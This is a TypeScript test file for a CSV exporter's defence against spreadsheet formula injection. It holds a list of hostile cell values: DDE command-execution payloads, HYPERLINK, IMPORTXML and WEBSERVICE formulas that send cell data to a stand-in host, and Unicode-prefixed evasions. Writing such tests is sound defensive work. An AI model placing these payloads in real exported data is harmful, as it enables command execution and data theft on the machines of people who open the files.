import { parse } from 'csv-parse/sync';
import { escapeCell, unescapeCell } from './escapeCell';
import { recordLine } from './recordLine';
import { ROWS_TABLES } from '../rowsTables';

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.example?x="&A1,"Click")',
  '=IMPORTXML("http://elsewhere.example","//a")',
  '=WEBSERVICE("http://elsewhere.example/"&B2)',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '+1+1',
  '+cmd|x!A0',
  '-1+1',
  '-2+3+cmd|x!A0',
  '--1',
  '=',
  '+',
  '-',
  '@',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\nplain',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000-1',
  '\u2003@A1',
  '\u0000=1+1',
  '\u0001+1',
  '\u001f@A1',
  '\u007f=1+1',
  '\u0085=1+1',
  '\u200b=1+1',
  '\u200d-1',
  '\u2060@A1',
  '\ufeff=1+1',
  '\u00ad=1+1',
  '\u202e=1+1',
  '\ufe0f=1+1',
  '\u3164=1+1',
  '\u0600=1+1',
  '\ufff9=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' \u200b＝1+1',
  '\u2028=1+1',
  "'=1+1",
  "''",
];

const HARMLESS = [
  '',
  'Asha',
  'Anne-Marie',
  'Jean-Luc D’Souza',
  "O'Brien",
  "D'Costa",
  "'twas quoted'",
  "'",
  "''twice",
  '+91 98450 12345',
  '+919845012345',
  '+91-98450-12345',
  '-',
  '- one\n- two',
  '@getit_blr',
  '080-2345 6789',
  'asha+waitlist@example.in',
  'ಆಶಾ ರಾವ್',
  'ಬೆಂಗಳೂರು',
  'आशा',
  'அனிதா',
  '👩🏽‍🦱 Asha',
  '🙏',
  'e\u0301 and \u00e9',
  'He said "come at 5"',
  '"',
  '""',
  '"quoted"',
  'a, b, c',
  ',',
  'first line\nsecond line',
  'first line\r\nsecond line\r\n',
  'one\rtwo',
  '\n',
  '\t',
  'a\tb',
  ' leading and trailing ',
  '#12, 3rd Cross; 4th Main',
  '50% = half',
  '1+1=2',
  'NULL',
  '0123',
  '1e5',
  '\\',
  '\\"',
  'x\u200by',
  '\u0000',
  '😀'.repeat(50),
];

/** A signed number begins no formula that could do anything. */
const UNSAFE_START =
  /^(?!\+[\d ]+$)[\s\p{C}\p{Z}\u034f\u3164\ufe00-\ufe0f]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

function throughTheFile(value: string): string {
  const row = { name: 'x', mobile: '', message: value };
  const line = recordLine(ROWS_TABLES.contact, { row, receivedAt: new Date(0) });
  const records: string[][] = parse(line);
  expect(records).toHaveLength(1);
  expect(records[0]).toHaveLength(6);
  return records[0]?.[3] ?? 'no cell';
}

test('the lists hold at least 30 distinct values each', () => {
  expect(new Set(FORMULAS).size).toBeGreaterThanOrEqual(30);
  expect(new Set(HARMLESS).size).toBeGreaterThanOrEqual(30);
});

test.each(FORMULAS)('a spreadsheet does not run %j', (value) => {
  const cell = throughTheFile(value);
  expect(cell).toBe(`'${value}`);
  expect(cell).not.toMatch(UNSAFE_START);
  expect(unescapeCell(cell)).toBe(value);
});

test.each(HARMLESS)('%j is read back unchanged', (value) => {
  const cell = throughTheFile(value);
  expect(cell).not.toMatch(UNSAFE_START);
  expect(unescapeCell(cell)).toBe(value);
});

test.each([
  'Asha',
  'Anne-Marie',
  "O'Brien",
  '1+1=2',
  'ಆಶಾ',
  '"=1"',
  '',
  ' Asha',
  'a@b.in',
  '+91 98450 12345',
  '+919845012345',
  '+1 408 555 0100',
])('%j is stored without a mark', (value) => {
  expect(escapeCell(value)).toBe(value);
});

test.each(['+91-98450-12345', '+91 98450 12345+cmd|x!A0', '+1+1', ' +91 98450 12345', '+91\n=1'])(
  '%j is more than a telephone number, and a spreadsheet does not run it',
  (value) => {
    expect(escapeCell(value)).toBe(`'${value}`);
  },
);

test('two values never become the same cell, however often they are escaped', () => {
  const values = ['=1', "'=1", "''=1", '1', "'1", '', "'", "''"];
  expect(new Set(values.map(escapeCell)).size).toBe(values.length);
  for (const value of values) {
    expect(unescapeCell(unescapeCell(escapeCell(escapeCell(value))))).toBe(value);
  }
});

test('a line break, a comma or a quote inside a value cannot begin a new cell with a formula', () => {
  for (const value of ['x\n=1+1', 'x\r=1+1', 'x,=1+1', 'x",=1+1,"', 'x"\n=1+1\n"']) {
    expect(throughTheFile(value)).toBe(value);
  }
});
